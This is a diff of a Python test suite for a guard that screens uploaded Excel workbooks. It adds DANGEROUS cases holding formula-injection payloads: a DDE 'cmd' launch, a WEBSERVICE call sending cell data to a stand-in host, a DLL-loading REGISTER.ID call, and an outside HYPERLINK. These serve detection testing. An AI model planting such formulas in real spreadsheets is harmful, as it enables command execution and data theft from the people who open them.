@@ -16,7 +16,9 @@ from openpyxl import Workbook, load_workbook
 from openpyxl.styles import Font
 
 from intake import guard
-from intake.guard import QUARANTINED, Inspection, error_cells, inspect
+from intake.exact import Flaw
+from intake.guard import QUARANTINED, Inspection, inspect
+from intake.reader import read_workbook
 from templates.texts import load_texts
 from tests.conftest import Office
 
@@ -168,7 +170,8 @@ def test_what_libreoffice_saves_is_let_through_with_its_errors_found(soffice: Of
     saved = soffice.convert(path, "xlsx", tmp_path / "lagret").read_bytes()
 
     assert inspect(saved, "skjema.xlsx") is None
-    assert error_cells(saved) == {"Skjema & svar": {"B2", "C31"}}
+    rows = read_workbook(saved).sheets[0].rows
+    assert (rows[1][1], rows[30][2], rows[3][3]) == (Flaw("error_cell", "#DIV/0!"), Flaw("error_cell", "#N/A"), 2.0)
 
 
 # files that are something else
@@ -314,6 +317,11 @@ def huge(info: zipfile.ZipInfo) -> None:
     info.compress_type = zipfile.ZIP_DEFLATED
 
 
+def formula(text: str) -> bytes:
+    return with_cells(f'<row r="7"><c r="A7"><f>{text}</f><v>1</v></c></row>')
+
+
+NAME_OF_PROGRAM = """<definedName name="x">cmd|'/c calc'!A0</definedName>"""
 DOCTYPE = '<!DOCTYPE worksheet [<!ENTITY a "b">]>'
 ROOT_TAG = "<worksheet "
 
@@ -343,6 +351,15 @@ DANGEROUS = {
         "doctype",
     ),
     "doctype in content types": (with_text("[Content_Types].xml", "<Types ", DOCTYPE + "<Types "), "doctype"),
+    "a formula that asks the net": (formula('WEBSERVICE("https://a.example/"&amp;B2)'), "reaching_formula"),
+    "a formula that starts a program": (formula("cmd|'/c calc'!A0"), "reaching_formula"),
+    "a formula that calls a library": (formula('_xlfn.REGISTER.ID("a.dll","b")'), "reaching_formula"),
+    "a formula that opens a page": (formula('HYPERLINK("https://a.example","Svar her")'), "reaching_formula"),
+    "a formula in small letters": (formula("webservice(A1)"), "reaching_formula"),
+    "a name that starts a program": (
+        with_text("xl/workbook.xml", "<sheets>", f"<definedNames>{NAME_OF_PROGRAM}</definedNames><sheets>"),
+        "reaching_formula",
+    ),
     "same name": (duplicate(), "unsafe_package"),
     "overlap": (overlapping(), "unsafe_package"),
     "bytes before": (b"PK\x03\x04" + bytes(100) + GOOD, "unsafe_package"),
@@ -394,36 +411,14 @@ NEAR_CELLS = {
     "no references": "<row><c><v>1</v></c><c><v>2</v></c></row>",
     "comment": '<!-- <c r="XFD1"><v>1</v></c> -->',
     "prefix": '<x:row xmlns:x="x" r="1"><x:c r="A1"><x:v>1</x:v></x:c></x:row>',
+    "a link within the workbook": '<row r="1"><c r="A1"><f>HYPERLINK("#Ark!A1","Dit")</f><v>1</v></c></row>',
+    "a formula's words in a text": '<row r="1"><c r="A1" t="str"><v>cmd|x!A0 og WEBSERVICE(</v></c></row>',
 }
 
 
 @pytest.mark.parametrize("kind", NEAR_CELLS)
 def test_an_unusual_way_of_writing_cells_is_no_fault(kind: str) -> None:
     assert inspect(with_cells(NEAR_CELLS[kind]), "skjema.xlsx") is None
-
-
-# error cells
-
-
-def test_no_error_is_found_where_there_is_none() -> None:
-    assert error_cells(GOOD) == {}
-
-
-def test_errors_are_found_by_the_name_of_the_sheet_and_the_cell() -> None:
-    assert error_cells(workbook(B2="#REF!", C31="#N/A", D4="N/A")) == {"Skjema & svar": {"B2", "C31"}}
-
-
-@pytest.mark.parametrize(
-    "cell",
-    [
-        '<c r="AA7" t="e"><v>#N/A</v></c>',
-        "<c t='e' r='aa7'><v>#N/A</v></c>",
-        '<x:c xmlns:x="x" r="AA7" t="e"><x:v>#N/A</x:v></x:c>',
-        '<c r="Z7"/><c t="e"><v>#N/A</v></c>',
-    ],
-)
-def test_an_error_is_found_however_it_is_written(cell: str) -> None:
-    assert error_cells(with_cells(f'<row r="7">{cell}</row>')) == {"Skjema & svar": {"AA7"}}
 
 
 # whatever comes in
@@ -457,6 +452,7 @@ def test_an_old_file_with_some_wrong_bytes_never_stops_the_guard(flips: list[tup
 FOUND_BY_READING = {
     "foreign", "no_code", "wrong_form", "unknown_version", "bad_code", "codes_disagree", "unknown_recipient",
     "unknown_report", "empty_return", "two_forms", "sheets_missing", "keys_moved", "failed", "killed_reader",
+    "no_code_likely", "locked_changed", "other_owner", "answer_dragged",
 }  # fmt: skip
 PLACEHOLDERS = {
     "two_forms": {"name", "sheets"},
@@ -469,6 +465,10 @@ PLACEHOLDERS = {
     "zip_damaged": {"name", "files"},
     "late_by_guess": {"received"},
     "late_forwarded": {"received", "forwarded"},
+    "no_code_likely": {"name", "owner", "orgnr"},
+    "locked_changed": {"name", "label", "was", "now"},
+    "other_owner": {"name", "owner", "other"},
+    "answer_dragged": {"name", "sheet", "label", "onto"},
 }
 NAMES = {"unnamed"}  # no reason: what a file without a name is called
 FOUND_IN_SOURCES = {code for code in TEXTS.entries if code.startswith(("mail_", "zip_", "late_"))} - {"zip_bomb"}
